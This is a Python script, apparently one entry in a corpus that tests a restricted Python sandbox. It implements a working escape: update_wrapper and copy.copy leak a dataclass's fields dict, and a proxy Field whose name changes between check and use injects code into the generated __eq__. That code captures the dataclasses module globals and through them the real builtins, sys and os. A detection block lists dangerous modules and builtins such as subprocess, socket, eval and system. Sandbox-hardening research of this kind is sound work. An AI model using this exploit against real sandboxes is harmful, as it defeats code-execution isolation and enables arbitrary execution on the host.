# technique: 186 without naming __dataclass_fields__ (the validator refuses the name): functools.update_wrapper(box, B) with its default updated=('__dict__',) copies B's class dict, the fields dict included, into an instance's __dict__; copy.copy(box) then hands that dict to box.__setstate__, which the snippet's __getattr__ hook answers (hasattr(y, '__setstate__') in copy._reconstruct); the fields dict found among the values gets the proxy field of 186 (a `name` property that answers 'x' to _guard_classes' check and the payload to the real _process_class), whose name is pasted into the __eq__ source dataclasses execs from its own trusted frame
# source: 186; check-then-use on a duck-typed Field; update_wrapper/copy as dict readers
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import copy
import dataclasses
import functools
from dataclasses import dataclass, fields


@dataclass
class B:
    x: int = 0


def ftype(self):
    return self._field_type  # private read allowed on a parameter named self


FT = ftype(fields(B)[0])
G = []
STATES = []
PAYLOAD = 'x if G.append(fields.' + dn('globals') + ') else 0'


class Box:
    def __getattr__(self, name):
        if name == dn('setstate'):
            return STATES.append
        raise AttributeError(name)


box = Box()
functools.update_wrapper(box, B)  # box's __dict__ gets B's class dict
copy.copy(box)                    # ... which copy hands to box's __setstate__
fdict = None
for st in STATES:
    for v in st.values():
        if type(v) is dict and 'x' in v and v['x'] is fields(B)[0]:
            fdict = v
print('fields dict found:', fdict is not None)


class Proxy:
    _field_type = FT
    init = False
    kw_only = False
    compare = True
    default = dataclasses.MISSING
    default_factory = dataclasses.MISSING
    metadata = {}

    def __init__(self):
        self.n = 0
        self.type = int
        self.hash = None

    @property
    def name(self):
        self.n += 1
        return 'x' if self.n == 1 else PAYLOAD  # the check sees 'x', the exec the payload


p = Proxy()
p.repr = False
fdict['x'] = p

try:
    @dataclass(init=False, repr=False, eq=True)
    class D(B):
        """no inspect.signature for the docstring"""

    D() == D()
except BaseException as e:
    print('BLOCKED dataclass:', type(e).__name__, str(e)[:200])

if G and check('dataclasses module globals from generated __eq__', G[0]):
    g = G[0]
    check('real builtins via dataclasses globals', g[dn('builtins')])
    check('real sys module', g['sys'])
    attempt('os through the real __import__', lambda: g[dn('builtins')][dn('import')]('os'))
else:
    print('BLOCKED nothing collected')
